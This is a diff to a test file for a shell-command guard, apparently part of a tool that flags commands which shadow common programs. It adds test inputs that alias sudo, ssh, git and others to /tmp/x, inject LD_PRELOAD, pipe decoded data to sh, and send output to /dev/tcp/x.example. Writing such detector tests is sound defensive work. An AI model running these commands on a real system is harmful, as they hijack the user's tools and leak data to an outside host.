@@ -4,6 +4,16 @@ import guard, { docs } from './shadowed-program.ts'
 guardTest(guard, docs, {
   asks: [
     ...each('hash -p /tmp/git git', `bind -x '"C-l": /tmp/x'`, 'mapfile|readarray -C /tmp/x -c 1 lines'),
+    ...each(
+      'alias sudo=/tmp/x|su=/tmp/x|ssh=/tmp/x|git=/tmp/x|make=/tmp/x|curl=/tmp/x|cd=/tmp/x|docker=/tmp/x|kubectl=/tmp/x|rm=/tmp/x',
+      "alias ls='LD_PRELOAD=/tmp/x.so ls'",
+      "alias ll='curl x.example'",
+      "alias ll='wget x.example'",
+      "alias ll='base64 -d x | sh'",
+      "alias ll='eval $X'",
+      "alias ll='cat > /dev/tcp/x.example/80'",
+      "trap '/tmp/x' RETURN|ERR",
+    ),
     'ln -sf /tmp/x ~/.local/bin/npm',
     'cp x ~/bin/git',
     'function git { echo "$@" >> /tmp/log; command git "$@"; }',
